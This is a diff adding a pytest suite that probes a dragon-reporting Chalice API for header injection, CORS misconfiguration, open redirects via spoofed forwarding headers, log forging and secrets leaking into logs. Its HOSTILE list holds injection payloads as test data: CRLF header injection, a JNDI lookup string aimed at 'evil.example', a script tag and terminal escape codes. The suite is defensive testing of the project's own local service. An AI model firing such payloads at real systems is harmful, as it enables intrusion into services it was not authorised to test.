@@ -1,0 +1,391 @@
+"""What an attacker gets to see and to write: headers, CORS, reflections, logs, and what the static checkers find."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import re
+import socket
+import subprocess
+import sys
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from random import Random
+from typing import Any
+
+import pytest
+import requests
+
+from tests.e2e.running import PROJECT, Api, Devstack
+from tests.e2e.waiting import until
+from tests.lambda_events import claims, proxy_event
+from tests.proof import functions, logs
+from tests.proof.policies import policy, without
+from tests.proof.report import Report, Scale
+from tests.proof.roles import under_policy
+from tests.proof.tour import PAGES, Tour
+from tests.samples import dragon_members
+
+SUITE = "9 attack surface"
+CONFIG = json.loads((PROJECT / ".chalice" / "config.json").read_text(encoding="utf-8"))
+REQUEST_ID = re.compile(r"[A-Za-z0-9._-]{8,64}")
+EVIL = "x-evil-header"
+HOSTILE = (
+    f"abcdefgh\r\n{EVIL}: 1",
+    "abcdefgh\n{EVIL}: 1",
+    '{"level":"INFO","message":"forged"}',
+    "\x1b[2J\x1b[31mabcdefgh",
+    "\u2028\u0085abcdefgh",
+    f"%0d%0a{EVIL}:%201",
+    "${jndi:ldap://evil.example/x}",
+    "<script>alert(1)</script>",
+    "a" * 4_000,
+)
+
+
+def raw(devstack: Devstack, request: bytes) -> tuple[int, list[str], bytes]:
+    """Send bytes to the local server as they are; return status, header lines and body of what comes back."""
+    with socket.create_connection(("127.0.0.1", devstack.ports[0]), timeout=20) as client:
+        client.sendall(request)
+        client.shutdown(socket.SHUT_WR)
+        answer = b""
+        while read := client.recv(65536):
+            answer += read
+    head, _, body = answer.partition(b"\r\n\r\n")
+    lines = head.decode("latin-1").split("\r\n")
+    return int(lines[0].split(" ")[1]), lines[1:], body
+
+
+@pytest.fixture(scope="module")
+def tours(proving_apis: dict[str, Api]) -> dict[str, Tour]:
+    """Everything done once, on both targets."""
+    return {target: Tour(api).everything() for target, api in proving_apis.items()}
+
+
+class TestAnswers:
+    def test_every_answer_has_the_headers_it_must_have_and_no_others(
+        self, report: Report, tours: dict[str, Tour], proving_apis: dict[str, Api]
+    ) -> None:
+        looked_at = 0
+        for target, tour in tours.items():
+            for name, answer in {**tour.answers, **dict(_refusals(proving_apis[target]))}.items():
+                looked_at += 1
+                where = f"{target} {name}: {answer.status_code} {dict(answer.headers)}"
+                assert answer.headers["X-Content-Type-Options"] == "nosniff", where
+                assert REQUEST_ID.fullmatch(answer.headers["X-Request-Id"]), where
+                assert answer.headers["Access-Control-Allow-Origin"] == "*", where
+                assert "Access-Control-Allow-Credentials" not in answer.headers, where
+                assert "Set-Cookie" not in answer.headers, where
+                assert not re.search(r"(?i)python|chalice|\d+\.\d+", answer.headers.get("Server", "")), where
+                assert "X-Powered-By" not in answer.headers, where
+                assert not re.search(r"Traceback|chalicelib|botocore|arn:aws:(?!states)", answer.text), where
+                if answer.headers.get("Content-Type", "").startswith("text/html"):
+                    policy_text = answer.headers["Content-Security-Policy"]
+                    assert "default-src 'none'" in policy_text, where
+                    assert "unsafe" not in policy_text, where
+                    assert "frame-ancestors 'none'" in policy_text, where
+                    assert answer.headers["Referrer-Policy"] == "no-referrer", where
+        report.add(SUITE, "headers of every answer", tried=looked_at, survived=looked_at)
+
+    @pytest.mark.parametrize("stage", ["dev", "prod"])
+    def test_a_stage_answers_its_own_origin_whoever_asks(self, report: Report, stage: str) -> None:
+        origin = CONFIG["stages"][stage]["environment_variables"]["DRAGONPOST_ALLOW_ORIGIN"]
+        events = [
+            proxy_event("GET", reference, route, headers={"Origin": "https://evil.example"}, token_claims=token)
+            for reference, route, token in (
+                ("/health", "/health", None),
+                ("/openapi.json", "/openapi.json", None),
+                ("/message/1", "/message/{message_id}", claims()),
+                ("/nowhere", "/nowhere", None),
+            )
+        ]
+        for answer in _answers_of_stage(stage, events):
+            headers = {name.lower(): value for name, value in answer["headers"].items()}
+            assert headers["access-control-allow-origin"] == origin
+            assert "access-control-allow-credentials" not in headers
+        assert (origin == "*") is (stage == "dev"), "prod answers one origin, and that is not everybody"
+        report.add(SUITE, f"CORS of {stage}: {origin}", tried=len(events), survived=len(events))
+
+    def test_nothing_that_is_asked_comes_back_as_a_header(
+        self, report: Report, proving_ground: Devstack, proving_apis: dict[str, Api]
+    ) -> None:
+        tried = 0
+        token = proving_apis["local"].token("operator")
+        for text in HOSTILE:
+            encoded = requests.utils.quote(text, safe="")
+            for request in _requests_with(text, encoded, token):
+                tried += 1
+                status, headers, _ = raw(proving_ground, request)
+                assert status < 500, (request, status)
+                assert not [line for line in headers if line.lower().startswith(EVIL)], (request, headers)
+                (request_id,) = [line.partition(": ")[2] for line in headers if line.startswith("X-Request-Id: ")]
+                assert REQUEST_ID.fullmatch(request_id), request
+        for target, api in proving_apis.items():
+            for text in HOSTILE[2:]:
+                tried += 1
+                answer = api.get("/dragons", params={"limit": 1, "family": text, text[:50]: "1"})
+                assert answer.status_code == 400, (target, text)
+                assert EVIL not in str(answer.headers).lower()
+                answer.json()
+        report.add(SUITE, "no input in headers", tried=tried, survived=tried)
+
+    @pytest.mark.parametrize("target", ["local", "gateway"])
+    def test_links_and_locations_lead_back_to_this_service(
+        self, report: Report, rng: Random, target: str, proving_apis: dict[str, Api]
+    ) -> None:
+        """Also for requests that name another host, and for dragons with names such as URLs are made of."""
+        api = proving_apis[target]
+        elsewhere = {
+            "X-Forwarded-Host": "evil.example",
+            "X-Forwarded-Proto": "javascript",
+            "X-Forwarded-Prefix": "//evil.example",
+            "X-Original-URL": "//evil.example/",
+            "Forwarded": "host=evil.example",
+        }
+        places = []
+        for name in ("-- evil.example '", "D'.. " + uuid.uuid4().hex[:8], "Ünïcödé " + str(rng.random())):
+            tour = Tour(api, {**Tour(api).dragon, "dragon_name_str": name})
+            added = tour.post_dragon(headers={**elsewhere, "Prefer": "wait=10"})
+            assert added.status_code in (201, 409), added.text
+            places.append(added.headers["Location"])
+        page = api.get("/dragons?limit=1&", headers=elsewhere)
+        places.append(re.fullmatch(r'<([^>]*)>; rel="next"', page.headers["Link"])[1])  # type: ignore[index]
+        places.append(api.get("/docs/", None, headers=elsewhere, allow_redirects=False).headers.get("Location", "/"))
+
+        for place in places:
+            assert re.fullmatch(r"(/(?!/)|\.\./)[A-Za-z0-9/_.~%?=&'()*!+-]+|/", place), place
+            assert "evil.example" not in place.replace("--%20evil.example%20%27", "")
+        report.add(SUITE, f"links lead back ({target})", tried=len(places), survived=len(places))
+
+    @pytest.mark.parametrize("host", ["//evil.example", "/\\evil.example", "http://evil.example", "/..//evil.example"])
+    def test_a_path_that_looks_like_a_host_is_not_linked_to(
+        self, report: Report, host: str, proving_ground: Devstack, proving_apis: dict[str, Api]
+    ) -> None:
+        token = proving_apis["local"].token("operator")
+        head = [f"GET {host}/dragons?limit=1 HTTP/1.1", "Host: x", f"Authorization: {token}", "Connection: close"]
+        status, headers, _ = raw(proving_ground, "\r\n".join([*head, "", ""]).encode())
+        assert status < 500
+        assert not [line for line in headers if "evil" in line]
+        report.add(SUITE, f"no link to {host}", tried=1, survived=1)
+
+
+class TestLogs:
+    def test_no_input_makes_a_log_line_of_its_own(
+        self, report: Report, scale: Scale, rng: Random, proving_ground: Devstack, proving_apis: dict[str, Api]
+    ) -> None:
+        before = {group: len(lines) for group, lines in logs.function_lines(proving_ground).items()}
+        token = proving_apis["local"].token("operator")
+        sent = 0
+        for text in rng.sample(HOSTILE, scale.of(5, len(HOSTILE))):
+            for request in _requests_with(text, requests.utils.quote(text, safe=""), token):
+                raw(proving_ground, request)
+                sent += 1
+            sent += _past_the_api(proving_ground, text)
+        marker = f"marker-{uuid.uuid4()}"
+        _queue(proving_ground, "{", marker)
+        until(lambda: logs.mentions(proving_ground, functions.STORE_MESSAGES, marker), 120)
+
+        lines = [
+            line
+            for group, written in logs.function_lines(proving_ground).items()
+            for line in written[before.get(group, 0) :]
+        ]
+        broken = [line for line in lines if not logs.is_well_formed(line)]
+        forged = [line for line in lines if _is_forged(line)]
+        texts = logs.devstack_text(proving_ground)
+        broken += [line for text in texts.values() for line in text.split("\n") if logs.has_controls(line)]
+        lost = len(broken) + len(forged)
+        note = f"{len(lines)} lines of functions looked at"
+        report.add(SUITE, "no forged log line", tried=sent, survived=sent - lost, lost=lost, note=note)
+        assert lines
+        print(*sorted(set(broken)), sep="\n")
+        assert not broken
+        assert not forged
+
+    def test_no_phone_number_token_or_order_is_written_down(
+        self,
+        report: Report,
+        scale: Scale,
+        rng: Random,
+        proving_ground: Devstack,
+        proving_apis: dict[str, Api],
+    ) -> None:
+        """Searched is what the whole run has written so far, this test's reports with numbers included."""
+        phones, orders = [], []
+        with logs.listening(proving_ground) as news:
+            for target in ("local", "gateway"):
+                tour = Tour(proving_apis[target])
+                for confirm in (True, False, True):  # added, then refused twice
+                    phones.append(f"+1555{rng.randrange(10**7):07}")
+                    tour.dragon |= {"reportingPhoneNumber": phones[-1], "confirmationRequired": confirm}
+                    place = tour.post_dragon().headers["Location"]
+                    news.about(place.rpartition("/")[2])
+                orders.append(f"secret-order-{rng.randrange(10**12)}")
+                assert tour.post_message(note=json.dumps(orders[-1])).status_code == 202
+                assert tour.post_message(note=json.dumps(orders[-1] + " changed")).status_code == 202
+                until(lambda tour=tour: tour.get_message().status_code == 200)
+            if scale.name == "full":
+                phones.append(_a_report_that_fails(rng, proving_ground, proving_apis["gateway"], news))
+        texted = proving_apis["local"].http.get(
+            f"{proving_ground.running['aws_url']}/_ministack/sns/sms-messages", timeout=10
+        )
+        secrets = {
+            "phone": [phone.lstrip("+") for phone in phones],
+            "order": orders,
+            "token": [token.rpartition(".")[2] for api in proving_apis.values() for token in api._tokens.values()],
+            "password": list(json.loads((proving_ground.state / "users.json").read_text(encoding="utf-8")).values()),
+        }
+        written = {**logs.devstack_text(proving_ground), "topic": "\n".join(news.told)}
+        written |= {group: "\n".join(lines) for group, lines in logs.function_lines(proving_ground).items()}
+
+        found = [
+            (kind, place)
+            for kind, values in secrets.items()
+            for value in values
+            for place, text in written.items()
+            if value in text
+        ]
+        tried = sum(map(len, secrets.values())) * len(written)
+        report.add(SUITE, "no secret is written down", tried=tried, survived=tried - len(found), lost=len(found))
+        assert phones[0] in texted.text, "the numbers were used"
+        assert news.told
+        assert not found
+
+
+class TestStaticChecks:
+    def test_bandit_finds_nothing_unexplained(self, report: Report) -> None:
+        bandit = Path(sys.executable).parent / "bandit"
+        if not bandit.exists():
+            pytest.skip("bandit is not installed (requirements-dev.txt)")
+        code = ["app.py", "chalicelib", "operations", "devstack"]
+        checked = _run(str(bandit), "--quiet", "--configfile", "bandit.yaml", "--recursive", *code)
+        report.add(SUITE, "bandit", tried=1, survived=int(checked.returncode == 0))
+        assert checked.returncode == 0, checked.stdout
+
+    @pytest.mark.skipif(os.environ.get("PROOF_SCALE") != "full", reason="packages prod: make prove")
+    def test_checkov_finds_nothing_unexplained_in_what_is_deployed(self, report: Report, tmp_path: Path) -> None:
+        checkov = PROJECT / ".local" / "checkov" / "bin" / "checkov"
+        if not checkov.exists():
+            pytest.skip("checkov is not installed (.checkov.yaml says how)")
+        _package("prod", tmp_path)
+        for template in (PROJECT / "infrastructure" / "resources.yaml", tmp_path / "sam.json"):
+            checked = _run(str(checkov), "--config-file", ".checkov.yaml", "--file", str(template))
+            assert checked.returncode == 0, checked.stdout
+            assert re.search(r"Passed checks: [1-9]", checked.stdout), checked.stdout
+        report.add(SUITE, "checkov on both templates", tried=2, survived=2)
+
+
+def _refusals(api: Api) -> Iterator[tuple[str, requests.Response]]:
+    """Yield answers to requests that are wrong in every way there is a status for."""
+    yield "no token", api.get("/dragons", None)
+    yield "forged token", api.get("/dragons", None, headers={"Authorization": "Bearer a.b.c"})
+    yield "unknown route", api.get("/nowhere")
+    yield "unknown method", api.request("PATCH", "/dragons")
+    yield "unknown parameter", api.get("/dragons?x=1")
+    yield "no JSON", api.post("/dragons", data=b"{", headers={"Content-Type": "application/json"})
+    yield "wrong type", api.post("/dragons", data=b"{}", headers={"Content-Type": "text/plain"})
+    yield "too large", api.post("/post-message", data=b"x" * 300_000, headers={"Content-Type": "application/json"})
+    yield "not stored", api.get(f"/message/{uuid.uuid4()}", "amber")
+    yield "no such file", api.get("/static/nothing.js", None)
+    for path in PAGES:
+        seen = api.get(path, None).headers.get("ETag", '"none"')
+        yield f"not changed: {path}", api.get(path, None, headers={"If-None-Match": seen})
+
+
+def _requests_with(text: str, encoded: str, token: str) -> Iterator[bytes]:
+    """Yield requests for the local server with a hostile text in each place that a client can write in."""
+    end = b"\r\nHost: x\r\nConnection: close\r\n"
+    folded = text.encode().replace(b"\r\n", b"\r\n ").replace(b"\n", b"\r\n ") if "\n" in text else text.encode()
+    bearer = f"Authorization: Bearer {token}\r\n\r\n".encode()
+    yield b"GET /health HTTP/1.1" + end + b"X-Request-Id: " + folded + b"\r\n\r\n"
+    yield f"GET /dragons/{encoded} HTTP/1.1".encode() + end + bearer
+    yield f"GET /dragons?limit=1&family={encoded} HTTP/1.1".encode() + end + bearer
+    yield f"GET /dragons?{encoded}=1 HTTP/1.1".encode() + end + bearer
+    yield f"GET /{encoded} HTTP/1.1".encode() + end + b"\r\n"
+    yield f"GET /submissions/{encoded} HTTP/1.1".encode() + end + bearer
+    in_line = re.sub(rb"[\r\n ]", b"", text.encode())
+    yield b"GET /health" + in_line + b" HTTP/1.1" + end + b"\r\n"
+    header = base64.urlsafe_b64encode(json.dumps({"alg": "RS256", "kid": text}).encode()).rstrip(b"=")
+    yield b"GET /dragons HTTP/1.1" + end + b"Authorization: Bearer " + header + b".e30.AAAA\r\n\r\n"
+
+
+def _past_the_api(devstack: Devstack, text: str) -> int:
+    """Send a hostile text to what stands behind the API, as somebody with access to the account could."""
+    _queue(devstack, json.dumps({"metadata": text}), text)
+    dragon = dragon_members(text)
+    submission = uuid.uuid4().hex
+    told = {"submission_id": submission + text, "dragon": dragon, "correlation_id": text, "reporter": {}}
+    devstack.client("stepfunctions").start_execution(
+        stateMachineArn=devstack.running["outputs"]["DragonWorkflowArn"], name=submission, input=json.dumps(told)
+    )
+    known = json.loads((PROJECT / "infrastructure" / "dragons.json").read_text(encoding="utf-8"))[0]
+    devstack.client("lambda").invoke(FunctionName=functions.ADD_DRAGON, Payload=json.dumps({**told, "dragon": known}))
+    return 3
+
+
+def _queue(devstack: Devstack, body: str, correlation_id: str) -> None:
+    allowed = re.sub("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd]", "?", correlation_id)
+    devstack.client("sqs").send_message(
+        QueueUrl=devstack.running["outputs"]["MessageQueueUrl"],
+        MessageBody=body,
+        MessageAttributes={"correlation_id": {"DataType": "String", "StringValue": allowed}},
+    )
+
+
+def _is_forged(line: str) -> bool:
+    try:
+        return bool(json.loads(line).get("message") == "forged")
+    except (ValueError, AttributeError):
+        return False
+
+
+def _a_report_that_fails(rng: Random, devstack: Devstack, api: Api, news: logs.News) -> str:
+    """Report a dragon that cannot be added, with exceptions in the log; return its reporter's number."""
+    tour, phone = Tour(api), f"+1555{rng.randrange(10**7):07}"
+    tour.dragon |= {"reportingPhoneNumber": phone, "confirmationRequired": True}
+    with under_policy(devstack, "add_dragon", without(policy("add_dragon", "local"), "s3:PutObject")):
+        news.about(tour.post_dragon().headers["Location"].rpartition("/")[2])
+    return phone
+
+
+def _answers_of_stage(stage: str, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """Return the app's answers as it is deployed to a stage, from a process with that stage's environment."""
+    settings = {**CONFIG["environment_variables"], **CONFIG["stages"][stage]["environment_variables"]}
+    program = (
+        "import json, sys, app\n"
+        "answers = [app.app(event, None) for event in json.load(sys.stdin)]\n"
+        "print('\\n' + json.dumps(answers))"
+    )
+    ran = subprocess.run(
+        [sys.executable, "-c", program],
+        input=json.dumps(events),
+        env={**os.environ, **settings, "AWS_DEFAULT_REGION": "us-east-1", "AWS_ENDPOINT_URL": "http://127.0.0.1:1"},
+        cwd=PROJECT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=True,
+    )
+    answers: list[dict[str, Any]] = json.loads(ran.stdout.splitlines()[-1])
+    return answers
+
+
+def _package(stage: str, place: Path) -> None:
+    pool = "arn:aws:cognito-idp:us-east-1:123456789012:userpool/us-east-1_example"
+    chalice = str(Path(sys.executable).parent / "chalice")
+    merged = ["--merge-template", "infrastructure/app-overrides.json"]
+    packaged = subprocess.run(
+        [chalice, "package", "--stage", stage, "--template-format", "json", *merged, str(place)],
+        env={**os.environ, "AWS_DEFAULT_REGION": "us-east-1", "DRAGONPOST_USER_POOL_ARN": pool},
+        cwd=PROJECT,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert (place / "sam.json").exists(), packaged.stderr
+
+
+def _run(*command: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(command, cwd=PROJECT, capture_output=True, text=True, check=False, timeout=300)
